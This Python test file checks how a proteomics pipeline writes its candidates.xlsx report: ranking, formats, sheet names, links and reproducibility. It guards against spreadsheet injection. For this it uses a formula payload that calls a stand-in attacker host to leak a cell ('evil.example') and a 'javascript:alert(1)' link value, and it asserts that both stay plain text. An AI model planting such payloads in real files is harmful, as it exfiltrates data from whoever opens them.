"""candidates.xlsx: what is read back is what was ranked, and every name stays text."""

import io
import os
import re
import tempfile
import time
import zipfile
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest

from myosieve import schema
from myosieve.report import sheets, step, theme, workbook
from myosieve.report.sheets import MOST_CHARACTERS, sheet_name
from myosieve.report.workbook import UNIPROT


@pytest.fixture(scope="module")
def book(reported):
    """The workbook of the made study, read by openpyxl."""
    return openpyxl.load_workbook(reported.xlsx)


def _values(sheet) -> pd.DataFrame:
    rows = list(sheet.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def test_every_contrast_has_a_sheet_that_reads_back_as_the_candidates(reported, book) -> None:
    candidates = reported.frame("candidates", schema.CANDIDATES)
    for contrast, rows in candidates.groupby("contrast"):
        sheet = _values(book[contrast])
        assert list(sheet) == schema.CANDIDATES.names
        expected = rows.set_index("protein_group").loc[sheet["protein_group"]].reset_index()[schema.CANDIDATES.names]
        for column in schema.CANDIDATES.columns:
            if column.kind in (schema.NUMBER, schema.COUNT):
                pd.testing.assert_series_equal(sheet[column.name].astype(float), expected[column.name], rtol=1e-12)
            else:
                assert sheet[column.name].fillna("").tolist() == expected[column.name].fillna("").tolist()


def test_candidates_come_ranked_and_the_excluded_behind_them(reported, book) -> None:
    for contrast in reported.frame("candidates", schema.CANDIDATES)["contrast"].unique():
        ranks = _values(book[contrast])["rank"]
        ranked = ranks.notna().sum()
        assert ranks[:ranked].tolist() == list(range(1, ranked + 1))
        assert ranks[ranked:].isna().all()
        assert ranked < len(ranks)


def test_names_that_look_like_formulas_dates_or_numbers_stay_text(book) -> None:
    header = [cell.value for cell in book["eps_vs_rest"][1]]
    genes = {row[header.index("gene")].value: row[header.index("gene")] for row in book["eps_vs_rest"].iter_rows(2)}
    for name in (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "1-Mar",
        "MARCHF1",
        "SEPTIN2",
        "+1+1",
        "@SUM(A1)",
        "007",
    ):
        assert genes[name].data_type == "s", name
        assert genes[name].hyperlink is None


def test_no_sheet_holds_a_formula(reported, book) -> None:
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(reported.xlsx) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
    # openpyxl may call a formula text; the element <f> is what Excel runs.
    assert not [sheet for sheet in sheets if b"<f>" in sheet]


def test_a_missing_value_is_a_blank_cell(reported, book) -> None:
    candidates = reported.frame("candidates", schema.CANDIDATES)
    gap = candidates[(candidates["contrast"] == "eps_vs_rest") & candidates["log2fc"].isna()].iloc[0]["protein_group"]
    sheet = _values(book["eps_vs_rest"]).set_index("protein_group")
    assert sheet.loc[gap, ["log2fc", "ci_low", "ci_high", "q_value"]].isna().all()


def test_an_accession_of_uniprot_links_to_its_entry_and_no_other_does(small_study) -> None:
    made = small_study()
    candidates = made.frame("candidates", schema.CANDIDATES)
    candidates.loc[0, "accession"] = "javascript:alert(1)"
    made.rewrite("candidates", candidates)
    step.report(**made.arguments)
    sheet = openpyxl.load_workbook(made.xlsx)["eps_vs_rest"]
    column = schema.CANDIDATES.names.index("accession") + 1
    cells = [row[0] for row in sheet.iter_rows(2, min_col=column, max_col=column)]
    for cell in cells:
        linked = cell.hyperlink.target if cell.hyperlink else None
        assert linked == (None if ":" in cell.value else f"https://www.uniprot.org/uniprotkb/{cell.value}/entry")
    assert sum(cell.hyperlink is None for cell in cells) == 1


@pytest.mark.parametrize("accession", ["P05231", "Q8NAU1", "A0A024R161", "P05231-2"])
def test_the_accession_pattern_takes_examples_of_uniprots_manual(accession: str) -> None:
    # The first three are of the forms on https://www.uniprot.org/help/accession_numbers, the last one is an isoform.
    assert UNIPROT.fullmatch(accession)


@pytest.mark.parametrize("accession", ["P0523", "CON__P02769", "P05231/../x", "p05231", "ENSP00000258743"])
def test_the_accession_pattern_takes_nothing_else(accession: str) -> None:
    assert not UNIPROT.fullmatch(accession)


def test_beyond_excels_number_of_links_accessions_are_plain_text_and_counted(small_study, monkeypatch) -> None:
    monkeypatch.setattr(sheets, "MOST_LINKS", 3)
    made = small_study()
    summary = step.report(**made.arguments)
    assert summary.counts["accessions_without_link"] == 40 - 3


def test_the_other_sheets_hold_the_tests_the_samples_the_methods_and_the_settings(reported, book) -> None:
    assert book.sheetnames[0] == "Read me"
    assert book.sheetnames[-6:] == ["All proteins", "QC", "Sensitivity", "Validation", "Methods", "Settings"]
    measured = reported.frame("validation", schema.VALIDATION)
    assert _values(book["Validation"])["measure"].tolist() == measured["measure"].tolist()
    tests = reported.frame("differential", schema.DIFFERENTIAL)
    assert _values(book["All proteins"])["protein_group"].tolist() == tests["protein_group"].tolist()
    assert _values(book["QC"])["sample"].tolist() == reported.frame("samples_qc", schema.SAMPLES_QC)["sample"].tolist()
    settings = _values(book["Settings"])
    assert ["rank", "fdr", "0.05"] in settings.to_numpy().tolist()


def test_the_read_me_begins_with_the_warnings_and_explains_every_column(reported, book) -> None:
    rows = list(book["Read me"].iter_rows(values_only=True))
    texts = [row[0] for row in rows]
    assert texts[2] == reported.told()["warnings"][0]
    explained = {(row[0], row[1]): row[3] for row in rows if row[3]}
    for column in schema.CANDIDATES.columns:
        assert explained["contrast sheets", column.name] == column.meaning


def test_the_legend_explains_every_column_of_every_sheet_of_tables(hostile_content) -> None:
    data, _ = workbook.workbook(replace(hostile_content, contrasts=hostile_content.contrasts[:1], warnings=()))
    book = openpyxl.load_workbook(io.BytesIO(data))
    explained = {(row[0], row[1]) for row in book["Read me"].iter_rows(values_only=True) if row[3]}
    for sheet in book:
        if sheet.title not in ("Read me", "Methods"):
            where = "contrast sheets" if sheet == book.worksheets[1] else sheet.title
            assert {(where, cell.value) for cell in sheet[1]} <= explained


def test_the_read_me_links_to_every_sheet(book) -> None:
    linked = {cell.value: cell.hyperlink.location for row in book["Read me"].iter_rows(max_col=1) for cell in row
              if cell.hyperlink and cell.hyperlink.location.endswith("!A1")}  # fmt: skip
    assert linked == {name: f"'{name}'!A1" for name in book.sheetnames[1:]}


def test_the_read_me_names_the_first_ten_of_each_contrast_and_links_to_their_rows(reported, book) -> None:
    candidates = reported.frame("candidates", schema.CANDIDATES)
    rows = [
        row for row in book["Read me"].iter_rows() if row[0].hyperlink and not row[0].hyperlink.location.endswith("!A1")
    ]
    for contrast, mine in candidates.groupby("contrast"):
        best = mine[mine["rank"] <= 10].sort_values("rank")
        found = [row for row in rows if row[0].value == contrast]
        assert [(row[1].value, row[3].value) for row in found] == list(
            zip(best["gene"], best["accession"], strict=True)
        )
        for row in found:
            place = row[0].hyperlink.location.rpartition("!A")[2]
            accession = schema.CANDIDATES.names.index("accession")
            assert book[contrast][int(place)][accession].value == row[3].value


def test_log2fc_and_score_are_colored_from_the_palette(reported, book) -> None:
    for contrast in reported.frame("candidates", schema.CANDIDATES)["contrast"].unique():
        scales = {}
        for cells, rules in book[contrast].conditional_formatting._cf_rules.items():
            column = openpyxl.utils.cell.range_boundaries(str(cells.sqref))[0]
            scales[schema.CANDIDATES.names[column - 1]] = rules[0].colorScale
        colors = {name: [f"#{color.rgb[2:]}" for color in scale.color] for name, scale in scales.items()}
        down, up = theme.DIRECTION_COLORS["down"], theme.DIRECTION_COLORS["up"]
        assert colors == {"log2fc": [down, "#FFFFFF", up], "score": ["#FFFFFF", theme.tint(theme.GREEN, 0.6)]}
        low, middle, high = (float(stop.val) for stop in scales["log2fc"].cfvo)
        assert (low, middle) == (-high, 0)
        assert high >= 1


def test_a_tint_lies_between_white_and_the_color() -> None:
    assert [theme.tint("#0072B2", share) for share in (0, 0.5, 1)] == ["#FFFFFF", "#80B8D8", "#0072B2"]


def test_the_criteria_are_folded_away_and_nothing_else_is(book) -> None:
    sheet = book["eps_vs_rest"]
    folded = {name for name, column in _columns(sheet).items() if column.hidden and column.outlineLevel == 1}
    assert folded == {name for name in schema.CANDIDATES.names if name.startswith("d_")} | {"contributions"}
    assert _columns(sheet)["reason"].collapsed
    assert not any(column.hidden for column in _columns(book["All proteins"]).values())


def _columns(sheet) -> dict:
    """The sizes of a sheet's columns by their header; openpyxl keeps equal neighbors as one."""
    found = {}
    for column in sheet.column_dimensions.values():
        for position in range(column.min, column.max + 1):
            found[sheet.cell(1, position).value] = column
    return found


def test_prose_is_wrapped_in_rows_of_three_lines_at_most(book) -> None:
    sheet = book["eps_vs_rest"]
    reason = schema.CANDIDATES.names.index("reason")
    # A row of one line has the usual height and names none.
    heights = {sheet.row_dimensions[row[0].row].height or 15 for row in sheet.iter_rows(2)}
    assert heights <= {15, 30, 45}
    assert len(heights) > 1
    assert all(row[reason].alignment.wrap_text for row in sheet.iter_rows(2) if row[reason].value)


def test_every_column_shows_its_header(book) -> None:
    for sheet in book.worksheets[1:]:
        if sheet.title != "Methods":
            for name, column in _columns(sheet).items():
                assert len(name) < column.width <= 121


def test_small_q_values_are_scientific_and_others_are_not(book) -> None:
    formats = {
        cell.value: sheet.cell(2, cell.column).number_format for sheet in book.worksheets[1:3] for cell in sheet[1]
    }
    assert formats["q_value"] == "[<0.001]0.0E+00;0.000"
    assert (formats["rank"], formats["score"], formats["log2fc"], formats["gene"]) == ("0", "0.000", "0.00", "@")


def test_sheets_print_in_landscape_one_page_wide_with_their_header_on_each_page(book) -> None:
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        # A width of 1 is what the file means where it names none.
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == (None if sheet.title in ("Read me", "Methods") else "$1:$1")
    last = openpyxl.utils.get_column_letter(schema.CANDIDATES.names.index("secretion_class") + 1)
    assert re.search(rf"\$A\$1:\${last}\$301$", book["eps_vs_rest"].print_area)


def test_a_failure_leaves_no_file_behind(small_content, monkeypatch, tmp_path) -> None:
    def fail(*_):
        raise RuntimeError

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    (tmp_path / "temporary").mkdir()
    monkeypatch.setattr(workbook, "_methods", fail)
    with pytest.raises(RuntimeError):
        workbook.workbook(small_content())
    assert not list((tmp_path / "temporary").iterdir())


def test_the_header_and_the_gene_stay_in_sight(book) -> None:
    sheet = book["eps_vs_rest"]
    column = openpyxl.utils.get_column_letter(schema.CANDIDATES.names.index("gene") + 2)
    assert sheet.freeze_panes == f"{column}2"
    assert sheet.auto_filter.ref.startswith("A1:")


def test_a_text_longer_than_a_cell_is_cut_with_a_mark_and_counted(small_study) -> None:
    made = small_study()
    candidates = made.frame("candidates", schema.CANDIDATES)
    # Excel counts UTF-16 units, of which this character has two.
    candidates.loc[0, "reason"] = "\U0001f4aa" * MOST_CHARACTERS
    made.rewrite("candidates", candidates)
    summary = step.report(**made.arguments)
    sheet = _values(openpyxl.load_workbook(made.xlsx)["eps_vs_rest"])
    longest = max(sheet["reason"].dropna(), key=len)
    assert len(longest.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert longest.endswith("[cut: the whole text is in the .tsv]")
    assert summary.counts["cells_cut"] == 1
    assert len(summary.warnings) == 1


def test_more_rows_than_a_sheet_holds_go_on_on_the_next(small_study, monkeypatch) -> None:
    made = small_study()
    monkeypatch.setattr(sheets, "MOST_ROWS", 15)
    step.report(**made.arguments)
    book = openpyxl.load_workbook(made.xlsx)
    names = ["All proteins", "All proteins 2", "All proteins 3"]
    assert [len(_values(book[name])) for name in names] == [15, 15, 10]


@pytest.mark.parametrize(
    "name",
    [
        "a" * 40,
        "b/c",
        "[x]:*?\\",
        "'quoted'",
        "History",
        "",
        "QC",
        "\U0001f4aa" * 30,
        "a\nb",
        "a" * 30 + "'b",
        "_x0041_",
        "\ud83d",
    ],
)
def test_a_sheet_name_is_one_that_excel_takes(name: str) -> None:
    found = sheet_name(name, ["Read me", "qc"])
    assert 0 < len(found.encode("utf-16-le")) // 2 <= 31
    assert not set(found) & set("[]:*?/\\\n")
    assert found.strip("' ") == found
    assert not re.search("_x[0-9A-F]{4}_", found)  # Excel reads these as characters
    assert found.casefold() not in {"read me", "qc", "history"}


def test_sheet_names_that_differ_in_case_or_beyond_31_characters_stay_apart() -> None:
    taken: list[str] = []
    for name in ("Eps", "eps", "EPS", "x" * 31 + "1", "x" * 31 + "2"):
        taken.append(sheet_name(name, taken))
    assert len({name.casefold() for name in taken}) == 5


def test_a_contrast_named_as_another_sheet_gets_a_name_of_its_own(small_study) -> None:
    made = small_study()
    tables = {"candidates": schema.CANDIDATES, "differential": schema.DIFFERENTIAL, "validation": schema.VALIDATION}
    for name, table in tables.items():
        made.rewrite(name, made.frame(name, table).assign(contrast="qc"))
    step.report(**made.arguments)
    assert openpyxl.load_workbook(made.xlsx).sheetnames == [
        "Read me", "qc", "All proteins", "QC (2)", "Sensitivity", "Validation", "Methods", "Settings",
    ]  # fmt: skip


def test_a_contrast_without_candidates_has_a_sheet_with_the_header_alone(small_study) -> None:
    made = small_study()
    made.rewrite("candidates", made.frame("candidates", schema.CANDIDATES).iloc[:0])
    step.report(**made.arguments)
    assert len(_values(openpyxl.load_workbook(made.xlsx)["eps_vs_rest"])) == 0


def test_pandas_reads_the_workbook_without_a_warning(reported, book) -> None:
    read = pd.read_excel(
        io.BytesIO(reported.xlsx.read_bytes()), sheet_name="eps_vs_rest", keep_default_na=False, engine="openpyxl"
    )
    assert "NA" in set(read["gene"])


def test_the_bytes_do_not_depend_on_when_where_and_by_whom_it_is_written(small_study, monkeypatch) -> None:
    content = step._read(**{k: v for k, v in small_study().arguments.items() if k not in ("xlsx", "html")})
    first, _ = workbook.workbook(content)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    monkeypatch.setenv("TZ", "Pacific/Auckland")
    time.tzset()
    mask = os.umask(0o077)
    try:
        assert workbook.workbook(content)[0] == first
    finally:
        os.umask(mask)
        monkeypatch.undo()
        time.tzset()
    assert workbook.workbook(replace(content, title="another"))[0] != first
